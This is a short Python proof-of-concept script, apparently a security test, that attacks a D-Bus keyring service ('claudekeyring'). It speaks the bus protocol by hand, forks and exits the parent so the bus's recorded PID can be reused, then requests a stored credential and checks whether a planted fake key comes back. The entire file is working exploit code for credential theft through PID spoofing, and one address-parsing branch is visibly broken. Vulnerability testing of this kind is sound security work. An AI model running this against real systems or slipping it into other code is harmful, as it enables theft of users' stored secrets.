# Connects to the session bus, hands the connection to a child and exits:
# the bus keeps the parent's PID (SO_PEERCRED at connect) for the connection.
import os, socket, struct, sys, time
addr = os.environ["DBUS_SESSION_BUS_ADDRESS"]
path = addr.split("path=")[1].split(",")[0] if "path=" in addr else None
if path is None:
    d = addr.split("dir=")[1].split(",")[0]; path = None
s = socket.socket(socket.AF_UNIX)
s.connect(path)
s.sendall(b"\0AUTH EXTERNAL " + str(os.getuid()).encode().hex().encode() + b"\r\n")
assert s.recv(4096).startswith(b"OK")
s.sendall(b"BEGIN\r\n")
def pad(b, n): return b + b"\0" * ((-len(b)) % n)
def msg(serial, path, iface, member, dest, sig, body):
    fields = b""
    def field(code, t, val):
        nonlocal fields
        fields = pad(fields, 8)
        v = val.encode()
        if t == "g": enc = bytes([len(v)]) + v + b"\0"
        else: enc = struct.pack("<I", len(v)) + v + b"\0"
        fields += bytes([code, 1]) + t.encode() + b"\0" + enc
    field(1, "o", path); field(3, "s", member); field(6, "s", dest)
    if iface: field(2, "s", iface)
    if sig: field(8, "g", sig)
    hdr = b"l\x01\x00\x01" + struct.pack("<III", len(body), serial, len(fields)) + fields
    return pad(hdr, 8) + body
s.sendall(msg(1, "/org/freedesktop/DBus", "org.freedesktop.DBus", "Hello", "org.freedesktop.DBus", "", b""))
time.sleep(0.3); s.recv(65536)
ppid = os.getpid()
print(ppid, flush=True)
if os.fork() != 0:
    os._exit(0)            # the PID the bus recorded is now free
go = sys.argv[1]
while not os.path.exists(go): time.sleep(0.1)
s.sendall(msg(2, "/io/github/claudekeyring/ClaudeKeyring", "io.github.claudekeyring.Credentials1",
              "GetCredential", "io.github.claudekeyring.ClaudeKeyring", "a{sv}", b"\0" * 8))
time.sleep(1.5)
data = s.recv(65536)
print("REPLY-HAS-KEY" if b"fake-key-attack" in data else "no key: %r" % data[:300], flush=True)
